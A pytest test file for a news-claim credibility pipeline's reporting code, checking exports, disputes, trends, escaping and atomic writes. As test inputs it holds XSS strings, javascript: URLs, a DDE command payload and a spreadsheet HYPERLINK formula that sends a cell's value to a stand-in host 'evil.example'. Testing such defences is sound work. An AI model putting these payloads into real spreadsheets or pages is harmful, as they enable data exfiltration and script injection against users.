"""Reports and file output: exports, disputes, coverage, changes and trends, escaping, safe links,
formula-proof CSV, atomic writes and run swaps."""

from __future__ import annotations

import base64
import csv
import functools
import hashlib
import json
import math
import re
from datetime import date

import jinja2
import pandas as pd
import pytest

from credence import charts, ingest, io, pipeline, reporting
from credence.models import RunSummary
from tests.conftest import CONFIG_DIR, RAW_DIR

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def claim(claim_id: str, **fields: object) -> dict[str, object]:
    """One scored claim with every column the report reads; fields override the defaults."""
    article_id = claim_id.split("-")[0]
    row: dict[str, object] = {
        "claim_id": claim_id, "article_id": article_id, "sentence_index": 0,
        "source_text": "Anna Field", "source_surface": "Anna Field", "source_start": -1, "source_end": -1,
        "cue": "said", "cue_lemma": "say", "cue_class": "assert", "cue_start": -1, "cue_end": -1,
        "content": f"content of {claim_id}", "content_start": -1, "content_end": -1, "content_terms": "",
        "quote_type": "indirect", "attribution": "source", "stance": "assert", "commitment": 1.0, "via": "", "confidence": 1.0,
        "outlet": "Meridian Wire", "published_at": "2026-11-25T10:00:00+00:00", "title": "A title", "url": "https://example.org/a",
        "source_id": "anna-field", "source_name": "Anna Field", "source_type": "named_official", "source_affiliation": "",
        "source_prior": 0.6, "prior_rule": "category default", "resolution_method": "alias",
        "story_id": "story-001", "independence_group": f"source:{claim_id}", "syndication_group": "",
        "supporting_groups": "", "contradicting_groups": "", "supporting_claim_ids": "", "contradicting_claim_ids": "",
        "n_supporting_groups": 0, "n_contradicting_groups": 0, "score": 0.6, "status": "single-source", "explanation": "Prior 0.60.",
    }
    row.update(fields)
    return row


def frame(*rows: dict[str, object]) -> pd.DataFrame:
    return pd.DataFrame(list(rows))


def tarvel_like() -> pd.DataFrame:
    """A state agency's claim, its syndicated copy, a think tank agreeing, and a foreign ministry's denial."""
    return frame(
        claim("a1-c1", source_id="vsna", source_name="VSNA", source_type="state_media", source_affiliation="state:valdoria",
              independence_group="affiliation:state:valdoria", content="The army liberated Tarvel", outlet="VSNA",
              published_at="2026-11-24T05:00:00+00:00", supporting_claim_ids="b1-c1; c1-c1", contradicting_claim_ids="d1-c1",
              n_supporting_groups=1, n_contradicting_groups=1, status="contested", score=0.45),
        claim("b1-c1", source_id="vsna", source_name="VSNA", source_type="state_media", source_affiliation="state:valdoria",
              independence_group="affiliation:state:valdoria", content="The army  liberated Tarvel", outlet="Meridian Wire",
              published_at="2026-11-24T07:00:00+00:00", supporting_claim_ids="a1-c1", contradicting_claim_ids="d1-c1",
              n_contradicting_groups=1, status="contradicted", score=0.3),
        claim("c1-c1", source_id="harlow", source_name="Harlow Institute", source_type="expert", source_affiliation="org:harlow",
              independence_group="affiliation:org:harlow", content="Valdoria took Tarvel", supporting_claim_ids="a1-c1",
              n_supporting_groups=1, status="corroborated", score=0.7),
        claim("d1-c1", source_id="kestria-mfa", source_name="Kestrian MFA", source_type="government", source_affiliation="state:kestria",
              independence_group="affiliation:state:kestria", content="claims that the army liberated Tarvel", cue="denied",
              stance="deny", contradicting_claim_ids="a1-c1; b1-c1", n_contradicting_groups=1, status="contradicted", score=0.55),
        claim("e1-c1", story_id="story-002", content="An unrelated claim", status="single-source"),
    )


# --- links and cells ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "safe"),
    [
        ("https://example.org/a", "https://example.org/a"),
        ("http://example.org", "http://example.org"),
        ("javascript:alert(1)", ""),
        ("JaVaScRiPt:alert(1)", ""),
        (" javascript:alert(1)", ""),
        ("data:text/html,<script>", ""),
        ("vbscript:x", ""),
        ("//evil.example/x", ""),
        ("", ""),
    ],
)
def test_safe_url(url, safe):
    """Only http(s) URLs become links."""
    assert reporting.safe_url(url) == safe


@pytest.mark.parametrize(
    ("cell", "expected"),
    [("=HYPERLINK(\"http://x\",\"y\")", "'=HYPERLINK(\"http://x\",\"y\")"), ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("plain", "plain"), (3, 3)],
)
def test_neutralise_cell(cell, expected):
    """Cells a spreadsheet would evaluate get a leading apostrophe."""
    assert io.neutralise_cell(cell) == expected


def test_markdown_cell_escapes_layout_characters():
    """Pipes, newlines and markup in text cannot break a Markdown table."""
    assert reporting.markdown_cell("a | b\n<script>") == "a \\| b \\<script\\>"


@pytest.mark.parametrize(("value", "text"), [(0.456, "0.46"), (None, "–"), (math.nan, "–"), (3, "3.00"), ("x", "x")])
def test_number(value, text):
    """Numbers show two decimals; a missing value shows a dash."""
    assert reporting.number(value) == text


# --- exports -----------------------------------------------------------------------------------

HOSTILE_CELL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def is_number(cell: str) -> bool:
    """A numeric cell such as -1 (an absent offset) is a number to a spreadsheet, not a formula."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


def hostile_claims() -> pd.DataFrame:
    return frame(
        claim("a1-c1", content=HOSTILE_CELL, source_name="=cmd|' /C calc'!A0", source_id="=evil", outlet="+Outlet", title="@title"),
        claim("a1-c2", content="-2 is a number", source_name="\tTabbed", stance="deny", status="contradicted"),
    )


@pytest.mark.parametrize(
    ("name", "build"),
    [
        ("claims.csv", lambda claims, articles: claims),
        ("sources.csv", lambda claims, articles: reporting.sources_table(claims)),
        ("stories.csv", lambda claims, articles: reporting.story_table(claims, articles)),
    ],
)
def test_csv_exports_are_neutralised(tmp_path, name, build):
    """In every CSV export, no cell starts with a formula character; =HYPERLINK(...) comes out inert."""
    claims = hostile_claims()
    articles = pd.DataFrame([{"article_id": "a1", "title": "=HYPERLINK(\"x\")", "published_at": "2026-11-25T10:00:00+00:00"}])
    path = io.write_csv(tmp_path / name, build(claims, articles))
    with path.open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not is_number(cell)]
    if name == "claims.csv":
        assert "'" + HOSTILE_CELL in cells


def test_claims_jsonl_round_trips():
    """One JSON object per claim and line; missing values are null; text is kept verbatim."""
    claims = hostile_claims().assign(score=[0.5, math.nan], content=[HOSTILE_CELL, "Dravsk « naïve » <script>"])
    lines = b"".join(reporting.claims_jsonl(claims, rows_per_chunk=1)).decode("utf-8").splitlines()
    rows = [json.loads(line) for line in lines]
    assert len(rows) == 2 and rows[0]["content"] == HOSTILE_CELL
    assert rows[1]["score"] is None and rows[1]["content"] == "Dravsk « naïve » <script>"
    assert list(rows[0]) == list(claims.columns)
    assert isinstance(rows[0]["n_supporting_groups"], int) and isinstance(rows[0]["commitment"], float)
    assert list(reporting.claims_jsonl(claims.iloc[0:0])) == []


def test_top_claims_are_json_ready():
    """The UI table: best scores first, plain Python values."""
    top = reporting.top_claims(tarvel_like(), limit=2)
    assert [row["score"] for row in top] == [0.7, 0.6]
    json.dumps(top)


@pytest.mark.parametrize(
    ("extra", "reliability", "interval"),
    [
        ({}, None, None),
        ({"source_reliability": 0.41, "reliability_low": 0.2, "reliability_high": 0.66}, 0.41, (0.2, 0.66)),
        ({"reliability": 0.41}, 0.41, None),
    ],
)
def test_sources_table_uses_learned_reliability_when_present(extra, reliability, interval):
    """Reliability and its interval come from the scoring stage's columns, and are empty without them."""
    claims = tarvel_like().assign(**extra)
    table = reporting.sources_table(claims).set_index("source_id")
    assert list(table.reset_index().columns) == reporting.SOURCE_TABLE_COLUMNS
    vsna = table.loc["vsna"]
    assert vsna["claims"] == 2 and vsna["contested"] == 1 and vsna["contradicted"] == 1 and vsna["contradicted_share"] == 1.0
    if reliability is None:
        assert math.isnan(vsna["reliability"])
    else:
        assert vsna["reliability"] == reliability
    if interval is None:
        assert math.isnan(vsna["reliability_low"])
    else:
        assert (vsna["reliability_low"], vsna["reliability_high"]) == interval


# --- coverage per story -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("affiliations", "flag"),
    [
        (["state:valdoria", "state:valdoria"], "state:valdoria"),
        (["state:valdoria", ""], ""),
        (["", ""], ""),
        (["state:valdoria", "org:harlow"], ""),
    ],
)
def test_story_flags_support_from_one_affiliation(affiliations, flag):
    """A story whose every supporting claim shares one affiliation is flagged with it; denials do not count."""
    claims = frame(
        *[claim(f"a{i}-c1", source_affiliation=affiliation, source_id=f"s{i}") for i, affiliation in enumerate(affiliations)],
        claim("z9-c1", stance="deny", source_affiliation="state:kestria", source_type="government"),
    )
    articles = pd.DataFrame([{"article_id": "a0", "title": "First", "published_at": "2026-11-25T10:00:00+00:00"}])
    row = reporting.story_table(claims, articles).iloc[0]
    assert row["support_from_one_affiliation"] == flag
    assert row["denying_affiliations"] == "state:kestria: 1" and row["denying_types"] == "government: 1"
    assert row["headline"] == "First" and row["claims"] == 3


def test_story_table_counts_and_parts():
    """Counts per story, and the "name: n" cells parse back for the page's bars."""
    table = reporting.story_table(tarvel_like(), pd.DataFrame(columns=["article_id", "title", "published_at"])).set_index("story_id")
    assert list(table.reset_index().columns) == reporting.STORY_TABLE_COLUMNS
    story = table.loc["story-001"]
    assert (story["claims"], story["articles"], story["contested"], story["contradicted"]) == (4, 4, 1, 2)
    assert reporting.coverage_parts(story["supporting_types"]) == [("state_media", 2), ("expert", 1)]
    assert reporting.coverage_parts("") == []


# --- disputes ----------------------------------------------------------------------------------


@pytest.mark.parametrize("proposition", [None, "proposition_key", "exclusive_set_key"])
def test_dispute_puts_claim_and_denial_on_opposite_sides(proposition):
    """The claim, its copy and its supporter face the denial, with or without proposition ids."""
    claims = tarvel_like()
    if proposition:
        claims[proposition] = ["p1", "p1", "p1", "p1", "p2"]
    [dispute] = reporting.disputes(claims)
    assert dispute.headline["claim_id"] == "a1-c1"
    says = [row["source_name"] for row in dispute.supports.claims]
    assert says[0] == "VSNA" and set(says) == {"VSNA", "Harlow Institute"}
    vsna = dispute.supports.claims[0]
    assert vsna["copies"] == 2 and vsna["outlets"] == "VSNA, Meridian Wire"  # the syndicated copy is folded in
    assert [row["source_name"] for row in dispute.contradicts.claims] == ["Kestrian MFA"]
    assert (dispute.supports.groups, dispute.contradicts.groups) == (2, 1)
    assert (dispute.supports.one_affiliation, dispute.contradicts.one_affiliation) == ("", "state:kestria")


def test_no_dispute_without_contradiction():
    """Claims that only support each other are no dispute."""
    claims = tarvel_like().assign(contradicting_claim_ids="", n_contradicting_groups=0)
    assert reporting.disputes(claims) == []
    assert reporting.disputes(claims.iloc[0:0]) == []


# --- changes and trends ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("names", "expected"),
    [
        (["2026-11-27", "2026-11-29", "2026-11-28", ".staging-2026-11-29", "history", "2026-11-30"], ["2026-11-28", "2026-11-27"]),
        (["2026-11-29"], []),
        ([], []),
    ],
)
def test_previous_run_dates(names, expected):
    """Earlier date folders, newest first; the run's own folder (a rerun) and other folders are left out."""
    assert reporting.previous_run_dates(names, "2026-11-29") == expected


def test_run_changes_against_the_previous_run():
    """New, dropped, re-statused and moved claims, and new sources, against the newest earlier run."""
    before = tarvel_like()
    now = tarvel_like()
    now = now[now["claim_id"] != "e1-c1"]
    now.loc[now["claim_id"] == "c1-c1", ["status", "score"]] = ["contested", 0.4]
    now = pd.concat([now, frame(claim("f1-c1", source_id="new-source", source_name="New Source", status="contradicted", score=0.2))])
    changes = reporting.run_changes(now, reporting.PreviousRun("2026-11-28", reporting.sources_table(before), before))
    assert (changes.previous_date, changes.claims_delta, changes.new_claims, changes.dropped_claims) == ("2026-11-28", 0, 1, 1)
    assert [row["claim_id"] for row in changes.changed] == ["c1-c1"]
    assert changes.changed[0]["status_before"] == "corroborated"
    assert {row["claim_id"] for row in changes.new_disputed} == {"c1-c1", "f1-c1"}
    assert changes.new_sources == ["New Source"]
    assert changes.status_delta["contested"] == 1 and changes.status_delta["single-source"] == -1
    assert changes.has_changes
    assert not reporting.run_changes(now, None).has_changes


def test_trend_over_past_runs():
    """Each source's value over runs, oldest first, with the change since the last run."""
    sources = reporting.sources_table(tarvel_like())
    past = [
        reporting.PreviousRun("2026-11-27", sources.assign(mean_score=0.5)),
        reporting.PreviousRun("2026-11-28", sources.assign(mean_score=0.4).iloc[1:]),
    ]
    trend = reporting.trend_frame(sources, "2026-11-29", past)
    assert sorted(trend["run_date"].unique()) == ["2026-11-27", "2026-11-28", "2026-11-29"]
    table = reporting.add_source_trends(sources, trend).set_index("source_id")
    first, second = table.index[0], table.index[1]
    assert table.loc[first, "runs_seen"] == 2  # absent from the run of the 28th
    assert table.loc[second, "trend_values"].split() == ["0.500", "0.400", f"{table.loc[second, 'mean_score']:.3f}"]
    assert table.loc[second, "trend_change"] == round(table.loc[second, "mean_score"] - 0.4, 3)
    assert table.loc[first, "trend_metric"] == "mean_score"
    fresh = reporting.add_source_trends(sources, reporting.trend_frame(sources, "2026-11-29", []))
    assert fresh["trend_change"].isna().all() and (fresh["runs_seen"] == 1).all()


def test_trend_chart_needs_two_runs():
    """The trend chart appears once there is an earlier run to draw a line from."""
    claims = tarvel_like()
    sources = reporting.sources_table(claims)
    alone = reporting.trend_frame(sources, "2026-11-29", [])
    assert "trend" not in charts.chart_set(claims, sources, alone)
    both = reporting.trend_frame(sources, "2026-11-29", [reporting.PreviousRun("2026-11-28", sources.assign(mean_score=0.5))])
    assert charts.chart_set(claims, sources, both)["trend"].startswith("<svg")


def test_write_report_compares_with_the_newest_earlier_run(tmp_path):
    """The report task writes every export, skips unreadable earlier runs and ignores the run's own older folder."""
    from prefect.logging import disable_run_logger

    from tasks import stages

    out, work = tmp_path / "processed", tmp_path / "work"
    claims = tarvel_like()
    for name, previous in (("2026-11-28", claims.iloc[1:]), ("2026-11-29", claims.iloc[:1])):
        io.write_parquet(out / name / "claims.parquet", previous)
        io.write_csv(out / name / "sources.csv", reporting.sources_table(previous))
    (out / "2026-11-27").mkdir()  # a run folder without its files: skipped, not fatal
    articles = pd.DataFrame([{"article_id": a, "outlet": "Meridian Wire", "url": "https://example.org", "published_at": "2026-11-25T10:00:00+00:00",
                              "title": f"Title {a}", "text": "Some text."} for a in ("a1", "b1", "c1", "d1", "e1")])
    ledger = pd.DataFrame([{"source_file": "x.json", "record": "", "state": "processed", "reason": ""}])
    paths = [io.write_parquet(work / f"{name}.parquet", table) for name, table in (("scored", claims), ("articles", articles), ("ledger", ledger))]
    staging = io.staging_dir(out, "2026-11-29")
    with disable_run_logger():
        summary, summary_md, top = stages.write_report.fn(*paths, CONFIG_DIR, staging, date(2026, 11, 29))
    assert {p.name for p in staging.iterdir()} == {
        "claims.parquet", "claims.csv", "claims.jsonl", "sources.csv", "sources_discovered.csv", "stories.csv", "ledger.csv", "report.md", "report.html"}
    assert summary.claims == 5 and len(top) == 5
    assert "Since the run of 2026-11-28: +1 claims (1 new, 0 gone)" in summary_md
    assert "### Contested claims" in summary_md and "denies or contradicts" in summary_md
    sources = pd.read_csv(staging / "sources.csv")
    assert (sources["runs_seen"] == 2).all()  # this run and the 28th; never the old folder of the 29th
    assert len((staging / "claims.jsonl").read_text().splitlines()) == 5


@pytest.mark.parametrize(("values", "points"), [([], ""), ([0.5], ""), ([0.0, 1.0], "0.0,13.0 48.0,1.0")])
def test_sparkline_points(values, points):
    assert reporting.sparkline_points(values) == points


# --- the per-article view ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "spans", "expected"),
    [
        ("Ann said it rained.", [(0, 3, "source", "c1"), (4, 8, "cue", "c1"), (9, 18, "content", "c1")],
         [[("source", "Ann", "c1"), ("", " ", ""), ("cue", "said", "c1"), ("", " ", ""), ("content", "it rained", "c1"), ("", ".", "")]]),
        # A source inside another claim's content wins over the content.
        ("He said Ann lied.", [(8, 16, "content", "c1"), (8, 11, "source", "c2")],
         [[("", "He said ", ""), ("source", "Ann", "c2"), ("content", " lied", "c1"), ("", ".", "")]]),
        ("One.\n\nTwo.", [(0, 10, "content", "c1")], [[("content", "One.", "c1")], [("content", "Two.", "c1")]]),
        ("Short.", [(-1, -1, "cue", "c1"), (3, 99, "content", "c2")], [[("", "Short.", "")]]),
        ("", [], []),
    ],
)
def test_highlight_runs(text, spans, expected):
    """Text splits into plain and highlighted runs by paragraph; bad offsets are ignored."""
    assert reporting.highlight_runs(text, spans) == expected


# --- rendering ---------------------------------------------------------------------------------


@functools.cache
def hostile_report(**extra: object) -> tuple[str, str, str]:
    """HTML, Markdown and UI summary of a report whose every text field is hostile (built once per variant)."""
    claims = frame(claim(
        "x-c001", content="<script>window.pwned=1</script>", content_start=0, content_end=31,
        source_name="<img src=x onerror=alert(1)>", source_prior=0.3, outlet="Evil <b>Outlet</b>",
        published_at="2026-11-25T00:00:00+00:00", score=0.2, explanation="<i>x</i>", source_id="s", source_type="unknown",
        story_id="<b>story</b>", **extra,
    ))
    articles = pd.DataFrame([{"article_id": "x", "title": "<script>alert(2)</script>", "outlet": "Evil", "url": "javascript:alert(3)", "published_at": "2026-11-25T00:00:00+00:00", "text": "<script>window.pwned=1</script> <img src=x onerror=alert(4)>"}])
    ledger = pd.DataFrame([{"source_file": "<b>bad</b>.json", "record": "", "state": "quarantined", "reason": "<script>"}])
    data = reporting.build_report_data(RunSummary(run_date="2026-11-25", claims=1), claims, ledger, articles, low_credibility=0.45,
                                       with_charts=not extra)
    return reporting.render_html(data), reporting.render_markdown(data), reporting.summary_markdown(data)


def test_html_escapes_untrusted_text():
    """Article text, titles, sources and file names are escaped; javascript: URLs are not linked."""
    html, _, _ = hostile_report()
    body = html.split("</style>", 1)[1]
    assert body.count("<script") == 1  # the page's own
    assert "<img src=x" not in html and "&lt;img src=x" in html
    assert "href=\"javascript:" not in html
    assert "&lt;script&gt;window.pwned=1&lt;/script&gt;" in html
    assert "Evil <b>Outlet</b>" not in body and "Evil &lt;b&gt;Outlet&lt;/b&gt;" in body


def test_html_allows_only_its_own_script():
    """The Content-Security-Policy names the hash of the one inline script the page carries."""
    html, _, _ = hostile_report()
    [script] = re.findall(r"<script>(.*?)</script>", html, flags=re.S)
    expected = "'sha256-" + base64.b64encode(hashlib.sha256(script.encode()).digest()).decode() + "'"
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', html).group(1)
    assert f"script-src {expected}" in policy and "default-src 'none'" in policy and "unsafe-inline'; img" in policy


@pytest.mark.parametrize(
    ("extra", "shown", "absent"),
    [
        ({}, "0.30", "[0.10–0.50]"),
        ({"source_reliability": 0.33, "reliability_low": 0.1, "reliability_high": 0.5}, "[0.10–0.50]", "learned reliability is not available"),
    ],
)
def test_html_shows_reliability_interval_when_known(extra, shown, absent):
    """With the scoring stage's reliability columns the report shows the interval; without, the prior."""
    html, markdown, _ = hostile_report(**extra)
    assert shown in html and absent not in html


def test_empty_run_renders():
    """A night without claims (everything quarantined) still gives a readable report and empty exports."""
    claims = frame(claim("a1-c1")).iloc[0:0]
    ledger = pd.DataFrame([{"source_file": "bad.json", "record": "", "state": "quarantined", "reason": "not JSON"}])
    articles = pd.DataFrame(columns=["article_id", "outlet", "url", "published_at", "title", "text"])
    data = reporting.build_report_data(reporting.run_summary(claims, ledger, "2026-11-29"), claims, ledger, articles, low_credibility=0.45)
    html, markdown = reporting.render_html(data), reporting.render_markdown(data)
    assert "No claim is contested" in html and "not JSON" in html and "not JSON" in markdown
    assert list(data.source_frame.columns) == reporting.SOURCE_TABLE_COLUMNS + reporting.TREND_COLUMNS
    assert list(data.story_frame.columns) == reporting.STORY_TABLE_COLUMNS and data.story_frame.empty


def test_markdown_report_escapes_untrusted_text():
    """The Markdown report and the UI summary show hostile text as text."""
    _, markdown, summary = hostile_report()
    for text in (markdown, summary):
        assert "<script>" not in text and "\\<script\\>" in text


@pytest.mark.parametrize(("text", "expected"), [("$x$ price", r"\$x\$ price"), ("a" * 50, "a" * 37 + "…"), ("  ", "(none)")])
def test_chart_labels_are_literal(text, expected):
    """Chart labels are one line, truncated, never read as mathtext."""
    assert charts.label(text) == expected


def test_charts_escape_hostile_names():
    """Hostile outlet and source names come out as escaped SVG text."""
    claims = tarvel_like().assign(outlet="<script>alert(1)</script>", source_name="<img src=x onerror=alert(1)>")
    svgs = charts.chart_set(claims, reporting.sources_table(claims))
    assert set(svgs) == {"scores", "outlets", "sources"}
    for svg in svgs.values():
        assert svg.startswith("<svg") and "<script" not in svg and "<img" not in svg
    assert "&lt;script&gt;" in svgs["outlets"]


@pytest.mark.parametrize(
    ("svg", "inert"),
    [
        ("<svg><text>onload=x &lt;script&gt;</text></svg>", True),
        ("<svg><script>x</script></svg>", False),
        ('<svg><g onload="x"></g></svg>', False),
        ('<svg><a href="#x"></a></svg>', False),
        ("<svg><foreignObject></foreignObject></svg>", False),
    ],
)
def test_inert_svg(svg, inert):
    """Only plain drawing markup may be inserted unescaped into the report."""
    if inert:
        assert charts.inert_svg(svg, "c") == svg
    else:
        with pytest.raises(ValueError, match="not plain SVG"):
            charts.inert_svg(svg, "c")


@functools.cache
def sample_inputs() -> tuple[pd.DataFrame, pd.DataFrame]:
    """The sample corpus's articles and ledger, read once for the report tests of both files."""
    result = ingest.ingest(RAW_DIR)
    return pipeline.articles_frame(result.articles), pd.DataFrame([entry.__dict__ for entry in result.ledger])


def test_sample_markdown_report_shows_the_tarvel_dispute(sample_scored):
    """On the sample corpus, the report shows VSNA's claim with Kestria's denial on the other side."""
    articles, ledger = sample_inputs()
    data = reporting.build_report_data(reporting.run_summary(sample_scored, ledger, "2026-11-29"), sample_scored, ledger, articles,
                                       low_credibility=0.45, with_charts=False)
    tarvel = [d for d in data.disputes if any("completely liberated" in str(row["content"]) and "Valdorian State News Agency" in str(row["outlets"])
                                               for row in d.supports.claims)]
    assert tarvel, [d.headline["content"] for d in data.disputes]
    denials = [row for row in tarvel[0].contradicts.claims if row["stance"] == "deny"]
    assert denials and all(row["source_affiliation"] == "state:kestria" for row in denials)
    assert not any(row["stance"] == "deny" for row in tarvel[0].supports.claims)
    markdown = reporting.render_markdown(data)
    assert "Contested and contradicted claims" in markdown and "completely liberated" in markdown
    assert "| denies or contradicts | Kestrian Ministry of Foreign Affairs |" in markdown


# --- file writes -------------------------------------------------------------------------------


def test_atomic_write_leaves_no_temporary_file(tmp_path):
    """A write goes through a temporary name and leaves only the final file."""
    io.write_text(tmp_path / "report.md", "hello")
    assert [p.name for p in tmp_path.iterdir()] == ["report.md"]


def test_failed_write_keeps_the_previous_file(tmp_path, monkeypatch):
    """If writing fails half-way, the previous file is intact and no temporary file remains."""
    target = io.write_text(tmp_path / "report.md", "previous")

    def failing_write(self, *args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("pathlib.Path.write_text", failing_write)
    with pytest.raises(OSError, match="No space left"):
        io.write_text(target, "new")
    monkeypatch.undo()
    assert target.read_text() == "previous"
    assert [p.name for p in tmp_path.iterdir()] == ["report.md"]


def test_parse_cache_files_unused_for_a_month_are_removed(tmp_path):
    """Claims files reused or written within PARSE_CACHE_DAYS stay; older ones and other names are left or removed as promised."""
    import os

    from tasks import stages

    cache = tmp_path / ".cache"
    cache.mkdir()
    now = 1_800_000_000.0
    for name, age_days in (("claims-old.parquet", stages.PARSE_CACHE_DAYS + 1), ("claims-recent.parquet", 2), ("notes-old.txt", 90)):
        (cache / name).write_text("x")
        os.utime(cache / name, (now - age_days * 86_400, now - age_days * 86_400))
    removed = io.remove_unused_files(cache, "claims-*.parquet", days=stages.PARSE_CACHE_DAYS, now=now)
    assert [path.name for path in removed] == ["claims-old.parquet"]
    assert sorted(path.name for path in cache.iterdir()) == ["claims-recent.parquet", "notes-old.txt"]
    assert io.remove_unused_files(tmp_path / "missing", "*", days=1) == []


def test_publish_run_replaces_only_its_own_folder(tmp_path):
    """Publishing a date's run replaces that folder and leaves other dates alone."""
    out = tmp_path / "processed"
    other = out / "2026-11-28"
    other.mkdir(parents=True)
    (other / "report.md").write_text("older day")
    for content in ("first", "second"):
        staging = io.staging_dir(out, "2026-11-29")
        (staging / "report.md").write_text(content)
        io.publish_run(staging, out / "2026-11-29")
    assert (out / "2026-11-29" / "report.md").read_text() == "second"
    assert (other / "report.md").read_text() == "older day"
    assert sorted(p.name for p in out.iterdir()) == ["2026-11-28", "2026-11-29"]


def test_report_without_unreported_columns_then_explained_renders_the_same(sample_scored):
    """The report's frame leaves out the columns no section reads; adding the shown claims'
    explanations afterwards gives the same HTML and Markdown as the full frame."""
    articles, ledger = sample_inputs()
    summary = reporting.run_summary(sample_scored, ledger, "2026-11-29")
    build = functools.partial(reporting.build_report_data, ledger=ledger, articles=articles, low_credibility=0.45, with_charts=False)
    full = build(summary, sample_scored)
    slim = build(summary, sample_scored.drop(columns=reporting.UNREPORTED_CLAIM_COLUMNS))
    with pytest.raises(jinja2.UndefinedError, match="explanation"):  # shown claims need one: never rendered blank
        reporting.render_html(slim)
    explanations = dict(zip(sample_scored["claim_id"], sample_scored["explanation"], strict=True))
    reporting.add_explanations(slim, explanations)
    assert reporting.render_html(full) == reporting.render_html(slim)
    assert reporting.render_markdown(full) == reporting.render_markdown(slim)


def test_exports_streamed_from_parquet_equal_the_frame_exports(tmp_path):
    """claims.csv and claims.jsonl written batch by batch from the scored file equal the frame's."""
    claims = pd.concat([hostile_claims()] * 4, ignore_index=True).assign(claim_id=lambda f: [f"c{i}" for i in range(len(f))], score=[0.5, math.nan] * 4)
    scored = io.write_parquet(tmp_path / "scored.parquet", claims)
    io.write_csv(tmp_path / "frame.csv", claims)
    io.write_csv_from_parquet(tmp_path / "streamed.csv", scored, rows=3)
    assert (tmp_path / "streamed.csv").read_bytes() == (tmp_path / "frame.csv").read_bytes()
    streamed = b"".join(chunk for batch in io.parquet_batches(scored, rows=3) for chunk in reporting.claims_jsonl(batch))
    assert streamed == b"".join(reporting.claims_jsonl(claims))
    assert io.copy_file(scored, tmp_path / "claims.parquet").read_bytes() == scored.read_bytes()
    rows = io.read_rows(scored, "claim_id", ["c5", "c2", "missing"], ["content"])
    assert sorted(rows["claim_id"]) == ["c2", "c5"] and rows.columns.tolist() == ["claim_id", "content"]
    assert io.read_rows(scored, "claim_id", [], ["content"]).empty
